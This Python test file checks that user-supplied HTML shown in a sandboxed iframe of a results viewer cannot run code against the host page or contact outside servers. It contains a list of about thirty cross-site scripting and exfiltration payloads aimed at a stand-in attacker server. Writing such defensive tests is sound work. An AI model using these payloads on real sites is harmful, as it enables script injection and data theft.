"""What users kept, shown in our page."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

import foldline
from foldline import blobs
from foldline.layout import Layout
from tests.browser.page import Page
from tests.ui.processes import up

WAV = (  # a quarter of a second of silence
    b"RIFF\x24\x08\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0"
    b"data\0\x08\0\0" + b"\x80" * 2048
)

# Each tries to act for us, or to tell somebody; ELSEWHERE is a server of the attacker.
CORPUS = [
    "<script>parent.__pwned = 1</script>",
    "<script>top.__pwned = 1</script>",
    "<script>parent.document.title = 'pwned'</script>",
    "<script>top.location = 'ELSEWHERE/top'</script>",
    "<script>location = 'ELSEWHERE/self'</script>",
    "<script>window.open('ELSEWHERE/popup')</script>",
    "<script>fetch('ELSEWHERE/fetch', {mode: 'no-cors'})</script>",
    "<script>fetch('OURS/api/v1/runs/victim', {method: 'PATCH', body: '{}'})</script>",
    "<script>fetch('OURS/api/v1/runs/victim/seen', {mode: 'no-cors'})</script>",
    "<script>navigator.sendBeacon('ELSEWHERE/beacon', 'x')</script>",
    "<script>new WebSocket('ELSEWHERE/socket'.replace('http', 'ws'))</script>",
    "<script>new EventSource('ELSEWHERE/events')</script>",
    "<script>new Image().src = 'ELSEWHERE/image'</script>",
    "<script>import('ELSEWHERE/module.js')</script>",
    "<script src='ELSEWHERE/script.js'></script>",
    "<script>eval('parent.__pwned = 1')</script>",
    "<script>localStorage.x = 1; parent.__pwned = 1</script>",
    "<script>document.cookie = 'a=b'; top.__pwned = 1</script>",
    "<img src=x onerror='parent.__pwned = 1'>",
    "<img src='ELSEWHERE/img.png'>",
    "<svg onload='top.__pwned = 1'></svg>",
    "<link rel='stylesheet' href='ELSEWHERE/style.css'>",
    "<style>body { background: url(ELSEWHERE/css) }</style>",
    "<meta http-equiv='refresh' content='0;url=ELSEWHERE/refresh'>",
    "<iframe src='ELSEWHERE/iframe'></iframe>",
    "<object data='ELSEWHERE/object'></object>",
    "<base href='ELSEWHERE/'><a href='x'>x</a>",
    "<form action='ELSEWHERE/form'></form><script>document.forms[0].submit()</script>",
    "<video src='ELSEWHERE/video' autoplay></video>",
    "<a href='ELSEWHERE/ping' ping='ELSEWHERE/ping' id='a'>x</a><script>a.click()</script>",
]


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """The attacker's server, which remembers who came."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  # as the library calls them

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def elsewhere() -> Iterator[str]:
    Elsewhere.asked.clear()
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def show(page: Page, source: str) -> None:
    """Put a frame into the page, and wait until it is loaded."""
    page.evaluate(
        "new Promise(done => { const frame = document.createElement('iframe');"
        "frame.setAttribute('sandbox', 'allow-scripts');"
        f"frame.onload = done; frame.src = {json.dumps(source)};"
        "document.body.append(frame); }).then(() => 1)"
    )


def post(page: Page, html: str) -> None:
    """Show HTML in an empty frame."""
    show(page, "api/v1/frame")
    page.evaluate(
        "[...document.querySelectorAll('iframe')].at(-1)"
        f".contentWindow.postMessage({{html: {json.dumps(html)}}}, '*')"
    )


def told(script: str) -> str:
    """Return a script that tells the page the value of an expression."""
    return f"<script>parent.postMessage({{told: String({script})}}, '*')</script>"


@pytest.mark.parametrize("way", ["blob", "posted"])
def test_a_users_page_runs_and_reaches_nobody(
    tmp_path: Path, elsewhere: str, page: Page, way: str
) -> None:
    """Its scripts run; it has no origin, changes nothing of ours, and no request leaves it."""
    layout = Layout(tmp_path / "store")
    with foldline.Run(id="victim", store=layout.root, capture=False):
        pass
    with up(layout.root) as server:
        server.wait_until_live()
        page.goto(server.url)
        page.evaluate("addEventListener('message', e => { window.told = e.data.told }); 1")
        for payload in [*CORPUS, told("origin")]:
            html = payload.replace("ELSEWHERE", elsewhere).replace("OURS", server.url.rstrip("/"))
            if way == "posted":
                post(page, html)
            else:
                show(page, f"api/v1/blobs/{blobs.put(layout, html.encode())}?type=text/html")
        page.wait_until("window.told === 'null'")  # the origin of what has none
        # One more comes last: whatever the others did, they have done.
        post(page, told("1 + 1"))
        page.wait_until("window.told === '2'")
        assert page.evaluate("window.__pwned ?? null") is None
        assert page.evaluate("document.title !== 'pwned' && document.cookie === ''")
        assert page.evaluate("location.origin") == server.url.rstrip("/")
        assert page.evaluate("localStorage.getItem('x')") is None
        assert server.ask("runs/victim")["archived"] is False
        assert Elsewhere.asked == []
    assert any("Content Security Policy" in error for error in page.errors)
    page.errors.clear()  # what the browser refused, it tells


def test_a_drawing_runs_no_script(tmp_path: Path, page: Page) -> None:
    """An SVG that is opened as a page is a picture, whatever is in it."""
    layout = Layout(tmp_path / "store")
    layout.create()
    drawing = (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>parent.postMessage({told: 'ran'}, '*')"
        b"</script></svg>"
    )
    with up(layout.root) as server:
        page.goto(server.url)
        page.evaluate("addEventListener('message', e => { window.told = e.data.told }); 1")
        show(page, f"api/v1/blobs/{blobs.put(layout, drawing)}?type=image/svg%2Bxml")
        post(page, told("1 + 1"))
        page.wait_until("window.told === '2'")
    page.errors.clear()  # what the browser refused, it tells


def test_sounds_play_and_plotly_draws_in_our_page(tmp_path: Path, page: Page) -> None:
    """A sound of the store is heard from its address; a figure is drawn in a frame."""
    layout = Layout(tmp_path / "store")
    layout.create()
    figure = {"data": [{"y": [1, 3, 2]}], "layout": {"width": 300, "height": 200}}
    with up(layout.root) as server:
        page.goto(server.url)
        sound = f"api/v1/blobs/{blobs.put(layout, WAV)}?type=audio/wav"
        heard = page.evaluate(
            "new Promise((done, fail) => { const a = new Audio(); a.onloadedmetadata = () =>"
            f" done(a.duration); a.onerror = () => done(-1); a.src = {json.dumps(sound)}; }})"
        )
        assert heard == pytest.approx(0.256, abs=0.01)
        page.evaluate("addEventListener('message', e => { window.told = e.data.told }); 1")
        show(page, "api/v1/frame")
        page.evaluate(
            "fetch('api/v1/plotly.js').then(answer => answer.text()).then(plotly =>"
            " document.querySelector('iframe').contentWindow.postMessage({html:"
            " `<div id=figure></div><script>${plotly}</` + `script><script>Plotly.newPlot('figure',"
            f" {json.dumps(figure)}).then(() => parent.postMessage({{told: String("
            "document.querySelectorAll('#figure .scatterlayer path').length)}, '*'))</` + `script>`"
            "}, '*')).then(() => 1)"
        )
        page.wait_until("Number(window.told) > 0")
